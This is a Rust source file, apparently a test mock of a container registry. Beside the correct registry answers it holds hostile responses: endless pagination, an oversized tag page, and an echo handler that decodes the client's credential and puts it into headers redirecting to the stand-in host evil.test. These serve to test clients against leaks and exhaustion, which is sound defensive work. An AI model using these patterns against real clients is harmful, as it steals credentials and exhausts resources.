//! The right answers.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use bytes::Bytes;
use http::header::{LINK, LOCATION, WWW_AUTHENTICATE};
use http::{Method, Response};
use url::form_urlencoded;

use crate::body::Scripted;
use crate::state::{Recorded, State};

use super::plain::{error, insert, plain};
use super::{tokens, uploads};

/// What a signed URL ends with; a client that shows it in a message has leaked it.
const SIGNATURE: &str = "sig=signed-for-its-holder";

/// The answer that a well-behaved registry gives.
pub(crate) fn right(request: &Recorded, body: &Bytes, state: &State) -> Response<Scripted> {
    let path = request.path.as_str();
    if tokens::are_given_at(path, state) {
        return tokens::token(request, state);
    }
    if let Some(digest) = path.strip_prefix("/storage/") {
        return storage(request, state, digest);
    }
    let Some((repository, rest)) = route(path) else {
        return match path {
            "/v2/" | "/v2" => {
                tokens::authenticated(request, state, None, || plain(200, "application/json", "{}".into()))
            }
            _ => error(404, "UNSUPPORTED", "no such route"),
        };
    };
    let action = match rest {
        Rest::AzureTags => "metadata_read",
        _ if !matches!(request.method, Method::GET | Method::HEAD) => "push",
        _ => "pull",
    };
    tokens::authenticated(request, state, Some((repository, action)), || match rest {
        Rest::Tags | Rest::AzureTags => tags(request, state, repository, matches!(rest, Rest::AzureTags)),
        Rest::Manifest(reference) if request.method == Method::PUT => {
            uploads::put_manifest(request, body, state, repository, reference)
        }
        Rest::Manifest(reference) => manifest(request, state, repository, reference),
        Rest::Referrers(subject) => uploads::referrers(request, state, repository, subject),
        Rest::Upload(id) => uploads::upload(request, body, state, repository, id),
        Rest::Blob(digest) => blob(request, state, repository, digest),
    })
}

enum Rest<'a> {
    Tags,
    AzureTags,
    Manifest(&'a str),
    Referrers(&'a str),
    /// An upload; without an id one is begun.
    Upload(&'a str),
    Blob(&'a str),
}

fn route(path: &str) -> Option<(&str, Rest<'_>)> {
    if let Some(repository) = path
        .strip_prefix("/acr/v1/")
        .and_then(|rest| rest.strip_suffix("/_tags"))
    {
        return Some((repository, Rest::AzureTags));
    }
    let rest = path.strip_prefix("/v2/")?;
    if let Some(repository) = rest.strip_suffix("/tags/list") {
        return Some((repository, Rest::Tags));
    }
    if let Some((repository, reference)) = rest.rsplit_once("/manifests/") {
        return Some((repository, Rest::Manifest(reference)));
    }
    if let Some((repository, subject)) = rest.rsplit_once("/referrers/") {
        return Some((repository, Rest::Referrers(subject)));
    }
    if let Some((repository, id)) = rest.rsplit_once("/blobs/uploads/") {
        return Some((repository, Rest::Upload(id)));
    }
    let (repository, digest) = rest.rsplit_once("/blobs/")?;
    Some((repository, Rest::Blob(digest)))
}

fn tags(request: &Recorded, state: &State, name: &str, azure: bool) -> Response<Scripted> {
    let pairs: Vec<_> = form_urlencoded::parse(request.query.as_bytes()).into_owned().collect();
    let value = |wanted: &str| {
        pairs
            .iter()
            .find(|(name, _)| name == wanted)
            .map(|(_, value)| value.as_str())
    };
    let (page_size, links) = state.behaviour(|behaviour| (behaviour.page_size, behaviour.links));
    let count = value("n")
        .and_then(|n| n.parse().ok())
        .map_or(page_size, |n: usize| n.min(page_size));
    let page = state.content(|content| {
        let (page, more) = content.repository(name)?.page(value("last"), count);
        let last = page.last().map(|(tag, _)| (*tag).clone()).filter(|_| more);
        let tags: Vec<_> = page
            .into_iter()
            .map(|(tag, digest)| {
                if azure {
                    azure_tag(tag, &digest.to_string())
                } else {
                    tag.as_str().into()
                }
            })
            .collect();
        Some((tags, last))
    });
    let Some((tags, last)) = page else {
        return error(404, "NAME_UNKNOWN", "repository name not known to registry");
    };
    let body = if azure {
        serde_json::json!({ "registry": request.host, "imageName": name, "tags": tags })
    } else {
        serde_json::json!({ "name": name, "tags": tags })
    };
    let mut response = plain(200, "application/json", body.to_string().into());
    if let Some(last) = last.filter(|_| links) {
        insert(
            &mut response,
            LINK,
            &format!("<{}?last={last}&n={count}>; rel=\"next\"", request.path),
        );
    }
    response
}

fn azure_tag(name: &str, digest: &str) -> serde_json::Value {
    serde_json::json!({ "name": name, "digest": digest, "createdTime": "2026-11-20T00:00:00Z", "signed": false,
        "changeableAttributes": { "deleteEnabled": true, "writeEnabled": true, "readEnabled": true, "listEnabled": true } })
}

fn manifest(request: &Recorded, state: &State, name: &str, reference: &str) -> Response<Scripted> {
    let found = state.content(|content| {
        content
            .repository(name)
            .map(|repository| repository.manifest(reference))
    });
    match found {
        None => error(404, "NAME_UNKNOWN", "repository name not known to registry"),
        Some(None) => error(404, "MANIFEST_UNKNOWN", "manifest unknown"),
        Some(Some((digest, stored))) => {
            // As strict as GHCR.
            if !request
                .accept
                .as_deref()
                .unwrap_or_default()
                .contains(stored.media_type.as_str())
            {
                let message = "OCI index found, but Accept header does not support OCI indexes";
                return error(404, "MANIFEST_UNKNOWN", message);
            }
            let mut response = plain(200, &stored.media_type, stored.body);
            insert(&mut response, "docker-content-digest", &digest.to_string());
            response
        }
    }
}

fn blob(request: &Recorded, state: &State, repository: &str, digest: &str) -> Response<Scripted> {
    let body = state.content(|content| content.blob(repository, digest));
    if let Some(host) = state.behaviour(|behaviour| behaviour.blob_host.clone()) {
        let mut response = plain(307, "text/plain", Bytes::new());
        insert(
            &mut response,
            LOCATION,
            &format!("{}/storage/{digest}?{SIGNATURE}", origin(&host)),
        );
        return response;
    }
    content(request, body)
}

fn origin(host: &str) -> String {
    if host.contains("://") {
        host.to_owned()
    } else {
        format!("https://{host}")
    }
}

/// Blob storage: a signed URL will do, and a credential besides is an error, as with Azure's.
fn storage(request: &Recorded, state: &State, digest: &str) -> Response<Scripted> {
    if request.authorization.is_some() {
        return plain(
            400,
            "application/xml",
            "<Error><Code>InvalidAuthenticationInfo</Code></Error>".into(),
        );
    }
    if request.query != SIGNATURE {
        return plain(
            403,
            "application/xml",
            "<Error><Code>AuthenticationFailed</Code></Error>".into(),
        );
    }
    content(request, state.content(|content| content.stored_blob(digest)))
}

fn content(request: &Recorded, body: Option<Bytes>) -> Response<Scripted> {
    match body {
        // Of ranges only the one that a probe asks for is understood.
        Some(body) if request.range.as_deref() == Some("bytes=0-0") => {
            plain(206, "application/octet-stream", body.slice(..body.len().min(1)))
        }
        Some(body) => plain(200, "application/octet-stream", body),
        None => error(404, "BLOB_UNKNOWN", "blob unknown to registry"),
    }
}

/// A page of new tags with a link to the next one.
pub(crate) fn endless_page(request: &Recorded) -> Response<Scripted> {
    let pairs: Vec<_> = form_urlencoded::parse(request.query.as_bytes()).into_owned().collect();
    let at: u64 = pairs
        .iter()
        .find(|(name, _)| name == "last")
        .and_then(|(_, last)| last.parse().ok())
        .unwrap_or(0);
    let mut response = plain(200, "application/json", format!("{{\"tags\":[\"{at}\"]}}").into());
    insert(
        &mut response,
        LINK,
        &format!("<{}?last={}>; rel=\"next\"", request.path, at + 1),
    );
    response
}

/// A page of the largest size that is read, with new names of the greatest length, and a link of 60 kB.
pub(crate) fn fat_page(request: &Recorded) -> Response<Scripted> {
    const NAMES: usize = 30_000;
    let pairs: Vec<_> = form_urlencoded::parse(request.query.as_bytes()).into_owned().collect();
    let at = pairs.iter().find(|(name, _)| name == "last").and_then(|(_, last)| {
        let number = last.split('-').next()?;
        number.parse::<usize>().ok()
    });
    let at = at.unwrap_or(0);
    let names: Vec<String> = (at..at + NAMES).map(|name| format!("{name:0128}")).collect();
    let mut response = plain(
        200,
        "application/json",
        serde_json::json!({ "tags": names }).to_string().into(),
    );
    let long = "x".repeat(60_000);
    let link = format!("<{}?last={}-{long}>; rel=\"next\"", request.path, at + NAMES);
    insert(&mut response, LINK, &link);
    response
}

/// An error that repeats what the request carried.
pub(crate) fn echo(request: &Recorded, status: u16) -> Response<Scripted> {
    let authorization = request.authorization.clone().unwrap_or_default();
    let credential = authorization.split(' ').next_back().unwrap_or_default().to_owned();
    let decoded = BASE64_STANDARD.decode(&credential).unwrap_or_default();
    let decoded = String::from_utf8_lossy(&decoded).into_owned();
    let fields = form_urlencoded::parse(request.body.as_bytes()).map(|(_, value)| value.into_owned());
    let fields = fields.collect::<Vec<_>>().join(" ");
    let said = format!(
        "you sent {authorization} that is {decoded} with {} {fields}",
        request.body
    );
    let encoded: String = form_urlencoded::byte_serialize(said.as_bytes()).collect();
    let body = serde_json::json!({
        "errors": [{ "code": credential, "message": said, "detail": [{ "Action": said, "Name": said }] }],
        "__type": credential, "message": said, "error": said, "error_description": said,
    });
    let mut response = plain(status, "application/json", body.to_string().into());
    let challenge = format!("Bearer realm=\"https://evil.test/{encoded}\",service=\"{encoded}\"");
    insert(&mut response, WWW_AUTHENTICATE, &challenge);
    insert(
        &mut response,
        LOCATION,
        &format!("https://{credential}.evil.test/{encoded}"),
    );
    insert(
        &mut response,
        LINK,
        &format!("<https://evil.test/{encoded}>; rel=\"next\""),
    );
    insert(&mut response, "docker-content-digest", &credential);
    insert(&mut response, "x-amzn-errortype", &credential);
    insert(&mut response, "warning", &format!("299 - \"{encoded}\""));
    response
}
